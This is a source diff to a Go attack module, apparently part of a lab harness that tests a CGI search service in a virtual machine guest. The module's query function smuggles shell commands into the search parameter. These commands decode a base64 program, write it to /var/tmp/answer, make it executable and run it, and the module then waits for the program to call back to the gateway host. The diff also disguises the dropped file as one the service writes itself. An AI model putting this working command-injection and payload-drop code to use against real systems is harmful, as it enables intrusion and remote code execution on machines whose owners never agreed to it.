@@ -6,14 +6,12 @@ import (
 	"crypto/sha256"
 	"encoding/base64"
 	"encoding/hex"
-	"errors"
 	"fmt"
 	"io"
 	"net"
 	"net/http"
 	"net/netip"
 	"net/url"
-	"os"
 	"time"
 )
 
@@ -21,8 +19,9 @@ import (
 // loopback.
 var gateway = netip.AddrFrom4([4]byte{10, 0, 2, 2})
 
-// Path is where the program is dropped, in the guest.
-const Path = "/var/tmp/.update"
+// Path is where the program is dropped, in the guest: in the place of a file
+// that the service itself writes, so that the writing looks like any other.
+const Path = "/var/tmp/answer"
 
 // Result is what an attacker knows afterwards.
 type Result struct {
@@ -53,21 +52,32 @@ func Run(ctx context.Context, port int, wait time.Duration) (Result, error) {
 
 	ctx, cancel := context.WithTimeout(ctx, wait)
 	defer cancel()
-	called := make(chan bool, 1)
+	called, answered := make(chan bool, 1), make(chan error, 1)
 	go func() { called <- awaitCall(ctx, l) }()
-	err = get(ctx, fmt.Sprintf("http://127.0.0.1:%d/cgi-bin/search.cgi?q=%s", port, url.QueryEscape(query(program))))
-	if err != nil && ctx.Err() == nil && !errors.Is(err, io.EOF) {
+	go func() {
+		answered <- get(ctx, fmt.Sprintf("http://127.0.0.1:%d/cgi-bin/search.cgi?q=%s", port, url.QueryEscape(query(program))))
+	}()
+	// The service answers when the program has ended, which is after the call.
+	select {
+	case r.Called = <-called:
 		cancel()
-		<-called
+		<-answered
+	case err = <-answered:
+		if ctx.Err() != nil {
+			err = nil
+		}
+		cancel()
+		r.Called = <-called
+	}
+	if err != nil {
 		return r, fmt.Errorf("attack: %w", err)
 	}
-	r.Called = <-called
 	return r, nil
 }
 
 // query is a search that ends early and goes on as the attacker's.
 func query(program []byte) string {
-	return fmt.Sprintf("bolt /srv/data/parts.txt; rm -f %[1]s; echo %[2]s | base64 -d >%[1]s; chmod 755 %[1]s; %[1]s </dev/null >/dev/null 2>&1 & true",
+	return fmt.Sprintf("bolt /srv/data/parts.txt; rm -f %[1]s; echo %[2]s | base64 -d >%[1]s; chmod 755 %[1]s; %[1]s </dev/null >/dev/null 2>&1 #",
 		Path, base64.StdEncoding.EncodeToString(program))
 }
 
@@ -99,5 +109,5 @@ func awaitCall(ctx context.Context, l net.Listener) bool {
 	defer stopRead()
 	b := make([]byte, len(greeting))
 	_, err = io.ReadFull(c, b)
-	return err == nil && string(b) == greeting || errors.Is(err, os.ErrDeadlineExceeded)
+	return err == nil && string(b) == greeting
 }
